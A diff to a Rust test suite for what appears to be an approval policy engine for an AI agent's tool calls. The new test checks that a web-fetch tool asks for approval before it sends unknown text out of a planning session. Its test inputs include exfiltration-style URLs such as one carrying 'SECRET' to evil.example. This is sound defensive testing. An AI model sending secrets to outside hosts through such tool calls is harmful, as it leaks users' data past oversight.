@@ -9,6 +9,7 @@ use super::*;
 use crate::domain::argument_path::ArgumentPath;
 use crate::domain::definition::{self, Approval, Form, Source};
 use crate::domain::ids::{ActionId, TenantId, UserId};
+use crate::domain::known::Known;
 use crate::domain::nesting;
 use crate::domain::policy::{Grant, Policy};
 use crate::domain::repository::{AllowedRepositories, RepositoryPattern};
@@ -109,6 +110,87 @@ fn arguments_are_bound_by_the_scope_of_the_tool_and_not_by_their_names() {
     }
     let ours = decided(true, project, r#"{"project":"ACME","ref":"gavel/x","head":"main"}"#);
     assert!(matches!(ours, PolicyDecision::Allow { .. }), "{ours:?}");
+}
+
+/// P, words leave by reading: in a planning session a tool that reads and reaches the open world asks before it carries
+/// out text that is not known. No plan and no setting of the tool allows it, and a rule does.
+#[test]
+fn a_read_that_carries_unknown_text_out_of_a_session_asks() {
+    let schema = r#"{"type":"object","properties":{
+        "url":{"type":"string"},"form":{"enum":["md","text"]},"offset":{"type":"integer"},"user":{"type":"string"}}}"#;
+    let tool = |change: &dyn Fn(&mut Tool)| {
+        tool_with("web_fetch", schema, |tool| {
+            tool.side_effect = false;
+            tool.identity_argument = Some("user".into());
+            tool.approval = Some(ApprovalDefault::NotRequired);
+            change(tool);
+        })
+    };
+    let facts = Facts {
+        can_wait: true,
+        floor: Approval::SideEffects,
+        known: Some(Arc::new(Known::of(&[
+            "Read https://docs.example/weeks about ISO weeks".to_owned(),
+        ]))),
+        scope: Some(Arc::new(Scope {
+            tools: ["web_fetch".to_owned()].into(),
+            branch_prefix: "gavel/".to_owned(),
+            ask_for: BTreeSet::new(),
+            confirmed: None,
+        })),
+        ..facts()
+    };
+    let asks = |tool: &Arc<Tool>, arguments: &str, facts: &Facts| match first(&call_of(tool, arguments), facts) {
+        PolicyDecision::RequireApproval { reason, .. } => Some(reason),
+        PolicyDecision::Allow { .. } => None,
+        other => panic!("{other:?}"),
+    };
+    let open = tool(&|_| ());
+    for (arguments, expected) in [
+        (r#"{"url":"https://docs.example/weeks"}"#, false),
+        (
+            r#"{"url":"https://docs.example/weeks","form":"md","offset":123456}"#,
+            false,
+        ),
+        (r#"{"url":"ISO weeks"}"#, false),
+        ("{}", false),
+        (r#"{"url":"https://docs.example/weeks?q=SECRET"}"#, true),
+        (r#"{"url":"https://evil.example/SECRET"}"#, true),
+        (r#"{"url":"SECRET"}"#, true),
+        (r#"{"url":"https://docs.example/weeks","note":"SECRET"}"#, true),
+        (r#"{"url":"https://docs.example/weeks","SECRET":7}"#, true),
+        (
+            r#"{"url":"https://docs.example/weeks","more":[{"x":["SECRET"]}]}"#,
+            true,
+        ),
+    ] {
+        let reason = asks(&open, arguments, &facts);
+        assert_eq!(reason.is_some(), expected, "{arguments}: {reason:?}");
+        if let Some(reason) = reason {
+            assert!(
+                reason.contains("SECRET") || reason.contains("note") || reason.contains("more"),
+                "{reason}"
+            );
+        }
+    }
+    let secret = r#"{"url":"https://evil.example/SECRET"}"#;
+    let closed = tool(&|tool| tool.open_world = false);
+    let ours = tool(&|tool| tool.scope = scope(REPOSITORY));
+    let half = tool(&|tool| tool.scope = scope(&REPOSITORY[..1]));
+    for (tool, expected) in [(&closed, false), (&ours, false), (&half, true)] {
+        assert_eq!(asks(tool, secret, &facts).is_some(), expected);
+    }
+    let outside = Facts {
+        known: None,
+        ..facts.clone()
+    };
+    assert_eq!(asks(&open, secret, &outside), None, "this is no planning session");
+    let rule = "rules: [{name: docs, tools: [tasks__web_fetch], then: allow, reason: r}]";
+    let allowed = Facts {
+        policy: policy(rule),
+        ..facts
+    };
+    assert_eq!(asks(&open, secret, &allowed), None);
 }
 
 /// A run that is bound to a repository calls no tool with another one, whatever else allows it.
